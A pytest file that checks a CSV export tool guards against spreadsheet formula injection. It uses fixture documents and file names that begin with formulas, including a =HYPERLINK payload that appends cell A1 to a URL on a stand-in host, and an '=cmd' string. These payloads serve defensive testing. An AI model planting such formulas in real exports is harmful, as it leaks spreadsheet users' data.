"""`dcs export --format csv`, end to end, never writes a cell a spreadsheet would run (issue 15).

Real files go through the real `dcs ingest` and `dcs export`: documents whose text and evidence
sentences start with formulas (``=HYPERLINK(...)`` that would send a cell's neighbour to a server,
``@SUM(1)``, ``+``, ``-``, a tab) and whose file names are formulas. Every cell of every CSV is then
read back with Python's csv reader: none may start with ``= + - @``, a tab or a carriage return
unless it is a number (a numeric column keeps ``-5``; a text cell that looked like one would have been
written ``'-5``), the rule of ``warehouse/privacy.py: spreadsheet_safe``.
"""

from __future__ import annotations

import csv
import re
import subprocess
import sys
from pathlib import Path

import pytest

from built_warehouses import ingested_warehouse
from councildocs.warehouse.privacy import FORMULA_GUARD, FORMULA_TRIGGERS

pytestmark = pytest.mark.slow

HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"Open")'
DOCUMENTS = {
    "@SUM(1).txt": (
        f"{HYPERLINK} Leeds City Council is recruiting a Director of Children's Services on a salary of "
        "£150,000 per annum.\n\n@SUM(1) Bradford Council is recruiting a Director of Public Health on a "
        "salary of £140,000 per annum.\n"
    ),
    "=1+1.txt": "+1+1 Manchester City Council is recruiting a Director of Children's Services on a salary of "
                "£160,000 per annum.\n\n-2+3 was the vote.\n\n\t=cmd\n",
    "-5.txt": "-5 Wandsworth Council is recruiting a Director of Children's Services on a salary of £170,000 a year.\n",
}
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("formula-documents")
    for name, text in DOCUMENTS.items():
        (folder / name).write_text(text, encoding="utf-8")
    db = ingested_warehouse(tmp_path_factory, folder)
    out = tmp_path_factory.mktemp("export")
    dcs = Path(sys.executable).with_name("dcs")
    subprocess.run([str(dcs), "export", "--format", "csv", "--out", str(out), "--db", str(db)],
                   check=True, capture_output=True, timeout=300)
    return out


def test_no_csv_cell_starts_a_formula(exported: Path):
    files = sorted(exported.glob("*.csv"))
    assert {"documents.csv", "facts.csv"} <= {f.name for f in files}
    running = []
    for path in files:
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                running += [(path.name, cell) for cell in row
                            if cell.startswith(FORMULA_TRIGGERS) and not NUMBER.fullmatch(cell)]
    assert running == []


def test_the_formulas_are_there_as_text(exported: Path):
    """Guarded, not dropped: the text a spreadsheet shows is the document's."""
    documents = (exported / "documents.csv").read_text(encoding="utf-8")
    facts = (exported / "facts.csv").read_text(encoding="utf-8")
    assert FORMULA_GUARD + HYPERLINK.replace('"', '""') in documents  # the text column, csv-quoted
    assert "@SUM(1).txt" in documents and "=1+1.txt" in documents  # inside the stored paths
    with (exported / "facts.csv").open(encoding="utf-8", newline="") as fh:
        salaries = [r for r in csv.DictReader(fh) if r["kind"] == "salary"]
    assert len(salaries) >= 3, facts[:500]
    assert any(r["evidence_text"].startswith(FORMULA_GUARD + "=HYPERLINK(") for r in salaries)
